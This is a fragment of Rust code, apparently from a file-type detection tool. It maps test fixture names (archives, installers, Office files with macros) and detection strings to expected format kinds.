        ("mini.xar", &["xar"]),
        ("excel4_sample_macro.slk", &["text"]),
        ("test-documents.dmg", &["hfs"]),
        ("testLZMA_oom", &["lzma"]),
        // Behind random bytes with a ZIP at the end; behind zeros a RAR: a matter of opening.
        ("test_read_format_zip_sfx", &["zip"]),
        ("rar5-crc.sfx", &[]),
        ("fixture.msi.cfb", &["msi"]),
        ("testAPK.apk", &["apk"]),
        ("testJAR_with_PEHDR.jar", &["jar"]),
        ("xlmmacro.xlsm", &["xlsx"]),
        ("excel4_sample_macro.xlsb", &["xlsb"]),
        ("embedded-simple-2007.xls", &["xls"]),
    ];
    if let Some((_, kinds)) = by_file.iter().find(|(name, _)| *name == file) {
        return Some(kinds);
    }
    let extension = file.rsplit('.').next().unwrap_or_default();
    Some(match facts {
        _ if facts.starts_with("7z archive") => &["7z"],
        _ if facts.starts_with("ARJ") => &["arj"],
        _ if facts.starts_with("ACE") => &["ace"],
        _ if facts.starts_with("CAB") => &["cab"],
        _ if facts.starts_with("CHM") => &["chm"],
        _ if facts.starts_with("RAR") => &["rar"],
        _ if facts.starts_with("PDF") => &["pdf"],
        _ if facts.starts_with("RTF") => &["rtf"],
        _ if facts.starts_with("bzip2") => &["bz2"],
        _ if facts.starts_with("gzip") => &["gz"],
        _ if facts.starts_with("zstd") => &["zst"],
        _ if facts.starts_with("VHD") => &["vhd"],
        _ if facts.starts_with("ISO") => &["iso"],
        _ if facts.starts_with("OneNote") => &["onenote"],
        _ if facts.starts_with("Java class") => &["java-class"],
        _ if facts.starts_with("Windows shortcut") => &["lnk"],
        _ if facts.contains("encrypted OOXML") => &["ole-encrypted"],
        _ if facts.starts_with("OLE2") => match extension {
            "doc" => &["doc"],
            "xls" => &["xls"],
            "ppt" => &["ppt"],
            "msg" => &["msg"],
            _ => return None,
        },
        _ if facts.starts_with("zip") => match (extension, what) {
            ("docx", _) => &["docx"],
            ("docm", _) if facts.contains("vbaProject") => &["docm"],
            ("docm", _) => &["docx"],
            ("xlsm", _) => &["xlsm"],
            ("pptx", _) => &["pptx"],
            ("pptm", _) => &["pptm"],
            ("odt", _) => &["odf"],
            _ => &["zip"],
        },
        _ => return None,
    })
}
